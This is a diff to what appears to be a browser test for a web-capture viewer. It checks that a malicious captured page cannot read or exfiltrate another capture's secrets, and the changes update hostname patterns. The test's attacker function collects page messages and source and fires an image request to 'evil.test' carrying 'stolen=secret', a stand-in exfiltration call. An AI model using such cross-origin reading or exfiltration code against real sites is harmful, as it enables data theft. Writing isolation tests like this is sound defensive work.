@@ -32,7 +32,7 @@ const imported = async (request, name, url, ...records) => {
 /** The attacker: what it can learn it leaves in window.learnt. */
 function attack(victim, known, port) {
   // By which label it is read itself; that of the victim it has been told, whoever did that.
-  const own = location.hostname.match(/\.([a-z2-7]{26})(?:-[so]+)?\.localhost$/)[1];
+  const own = location.hostname.match(/^([a-z2-7]{26})[asop]h-.*\.localhost$/)[1];
   window.learnt = { heard: [], read: {}, source: document.documentElement.outerHTML };
   addEventListener('message', event => {
     learnt.heard.push(JSON.stringify(event.data));
@@ -100,7 +100,7 @@ function attack(victim, known, port) {
   const picture = new Image();
   picture.src = 'http://evil.test/really-asked?stolen=secret';
   document.documentElement.append(picture);
-  const there = (host, label, path) => `http://http.${host}.${label}.localhost:${port}${path}`;
+  const there = (host, label, path) => `http://${label}ah-${host.replaceAll('.', '-')}.localhost:${port}${path}`;
   const keep = async (name, work) => {
     try {
       learnt.read[name] = String(await work());
@@ -154,7 +154,7 @@ test('a page cannot say that it is another one, offer what it read to be kept, o
     record('http://victim.test/data.json', '{"the":"secret words"}', 'application/json'),
     record('http://victim.test/secret.js', 'export const secret = "the secret words";', 'text/javascript'),
   );
-  const known = /<iframe[^>]*\.([a-z2-7]{26})\./.exec(await (await request.get('/c/' + victim)).text())[1];
+  const known = /<iframe[^>]*\/\/([a-z2-7]{26})[as]h-/.exec(await (await request.get('/c/' + victim)).text())[1];
   const attacker = await imported(
     request,
     'attacker',
@@ -171,7 +171,7 @@ test('a page cannot say that it is another one, offer what it read to be kept, o
   await page.goto('/c/' + attacker);
   const date = await page.locator('.margin-date').textContent(),
     bar = await page.locator('#bar').innerHTML();
-  const frame = page.frames().find(one => one.url().includes('attacker.test'));
+  const frame = page.frames().find(one => one.url().includes('-attacker-test.'));
   await frame.waitForFunction(() => window.learnt && learnt.done);
   await frame.evaluate(() => learnt.done);
   await page.waitForTimeout(2000);
